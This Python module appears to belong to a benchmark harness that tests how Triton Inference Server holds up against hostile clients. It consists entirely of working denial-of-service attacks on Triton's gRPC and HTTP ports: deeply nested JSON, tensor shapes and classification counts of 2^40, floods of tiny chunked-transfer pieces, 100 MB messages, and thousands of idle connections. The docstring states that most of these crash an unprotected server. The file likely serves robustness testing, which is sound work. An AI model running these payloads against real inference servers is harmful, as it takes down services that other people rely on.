"""Attacks on Triton's own ports, gRPC and HTTP, by whoever reaches them. Most of them end a Triton without a front."""

from __future__ import annotations

import asyncio
import json
import socket
from collections.abc import AsyncIterator, Callable
from contextlib import ExitStack
from typing import Any

import grpc
import httpx
from tritonclient.grpc import service_pb2 as pb

from benchmarks.attacks import Target, attack

# The entry model; and one that answers `infer`, which a decoupled model does not.
ENTRY, WHOLE = "tensorrt_llm_bls", "postprocessing"
CALLS = ("infer", "generate", "generate_stream")


async def post(target: Target, path: str, times: int = 1, **request: Any) -> None:
    """Send a POST request to Triton's HTTP as a program does, and read the whole answer; count its status."""
    headers = {"Content-Type": "application/json", **request.pop("headers", {})}
    async with httpx.AsyncClient(base_url=target.record.http_url, trust_env=False, timeout=60) as client:

        async def send() -> None:
            try:
                answer = await client.post(path, headers=headers, **request)
                target.sent[str(answer.status_code)] += 1
            except httpx.HTTPError as error:
                target.sent[type(error).__name__] += 1

        await asyncio.gather(*(send() for _ in range(times)))


@attack("http-depth", '3 MB of [ and of {"a": to each call of Triton\'s HTTP')
async def http_depth(target: Target) -> None:
    for content in (b"[" * 3_000_000, b'{"a":' * 600_000, b'{"inputs":' + b"[" * 3_000_000):
        for call in CALLS:
            await post(target, f"/v2/models/{ENTRY}/{call}", content=content)
            await post(target, f"/v2/models/{ENTRY}/{call}", content=content, headers={"Content-Type": ""})


@attack("http-shapes", "tensors whose shapes say 2^40 and more, and classes of an output by the 2^40")
async def http_shapes(target: Target) -> None:
    path = f"/v2/models/{WHOLE}/infer"
    for shape in ([1, 1 << 40], [1 << 62, 4], [1 << 31] * 2):
        tensor = {"name": "TOKENS_BATCH", "datatype": "INT32", "shape": shape, "data": [1]}
        await post(target, path, json={"inputs": [tensor]})
        await post(target, path, content=f'{{"inputs": {json.dumps([tensor])}, "inputs": []}}')
    tokens = [
        {"name": "TOKENS_BATCH", "datatype": "INT32", "shape": [1, 1, 2], "data": [3, 4]},
        {"name": "SEQUENCE_LENGTH", "datatype": "INT32", "shape": [1, 1], "data": [2]},
    ]
    classes = [{"name": "OUTPUT", "parameters": {"classification": 1 << 40}}]
    await post(target, path, json={"inputs": tokens, "outputs": classes})


@attack("http-chunks", "a body in 700,000 chunks, and one of 16 MB, four of each at once")
async def http_chunks(target: Target) -> None:
    async def pieces() -> AsyncIterator[bytes]:
        for _ in range(700):
            yield b"1\r\n \r\n" * 1000
            await asyncio.sleep(0)

    for call in ("infer", "generate"):
        await asyncio.gather(*(_chunked(target, f"/v2/models/{ENTRY}/{call}", pieces()) for _ in range(4)))
        await post(target, f"/v2/models/{ENTRY}/{call}", 4, content=b'{"text_input":"' + b"a" * 16_000_000)


async def _chunked(target: Target, path: str, pieces: AsyncIterator[bytes]) -> None:
    """Send chunks as they are written here: httpx would make one of many."""
    host, _, port = target.record.http_url.removeprefix("http://").partition(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    try:
        head = f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"
        writer.write(f"{head}Transfer-Encoding: chunked\r\n\r\n".encode())
        async for piece in pieces:
            writer.write(piece)
            await writer.drain()
        writer.write(b"0\r\n\r\n")
        target.sent[(await reader.readline())[9:12].decode()] += 1
    except ConnectionError as error:
        target.sent[type(error).__name__] += 1
    finally:
        writer.close()


def _calls(target: Target, channel: grpc.Channel) -> dict[str, Callable[[pb.ModelInferRequest], None]]:
    """Both ways to ask for an inference; each counts how it ended."""
    path, of = "/inference.GRPCInferenceService/", pb.ModelInferRequest.SerializeToString

    def unary(request: pb.ModelInferRequest) -> None:
        channel.unary_unary(f"{path}ModelInfer", of)(request, timeout=60)

    def stream(request: pb.ModelInferRequest) -> None:
        list(channel.stream_stream(f"{path}ModelStreamInfer", of)(iter([request]), timeout=60))

    def counted(call: Callable[[pb.ModelInferRequest], None]) -> Callable[[pb.ModelInferRequest], None]:
        def run(request: pb.ModelInferRequest) -> None:
            try:
                call(request)
                target.sent["OK"] += 1
            except grpc.RpcError as error:
                target.sent[error.code().name] += 1

        return run

    return {"unary": counted(unary), "stream": counted(stream)}


def _request() -> pb.ModelInferRequest:
    request = pb.ModelInferRequest(model_name=ENTRY)
    for name, kind, value in (("text_input", "BYTES", b"\2\0\0\0hi"), ("max_tokens", "INT32", b"\2\0\0\0")):
        request.inputs.add(name=name, datatype=kind, shape=[1, 1])
        request.raw_input_contents.append(value)
    return request


@attack("grpc-classes", "requests for the 2^40 likeliest classes of an output, plain and compressed")
async def grpc_classes(target: Target) -> None:
    request = _request()
    request.outputs.add(name="text_output").parameters["classification"].int64_param = 1 << 40
    for compression in (grpc.Compression.NoCompression, grpc.Compression.Gzip, grpc.Compression.Deflate):
        with grpc.insecure_channel(target.record.grpc_url, compression=compression) as channel:
            for call in _calls(target, channel).values():
                await asyncio.to_thread(call, request)


@attack("grpc-large", "messages of 100 MB, plain and compressed")
async def grpc_large(target: Target) -> None:
    request = _request()
    request.raw_input_contents[0] = bytes(100_000_000)
    options = [("grpc.max_send_message_length", -1)]
    for compression in (grpc.Compression.NoCompression, grpc.Compression.Gzip):
        with grpc.insecure_channel(target.record.grpc_url, options, compression) as channel:
            for call in _calls(target, channel).values():
                await asyncio.to_thread(call, request)


@attack("grpc-idle", "1,000 connections to each port that send nothing")
async def grpc_idle(target: Target) -> None:
    with ExitStack() as stack:
        for url in (target.record.grpc_url, target.record.http_url.removeprefix("http://")):
            host, _, port = url.rpartition(":")
            for _ in range(1_000):
                try:
                    stack.enter_context(socket.create_connection((host, int(port)), 1))
                except OSError as error:
                    target.sent[type(error).__name__] += 1
        await asyncio.sleep(3)
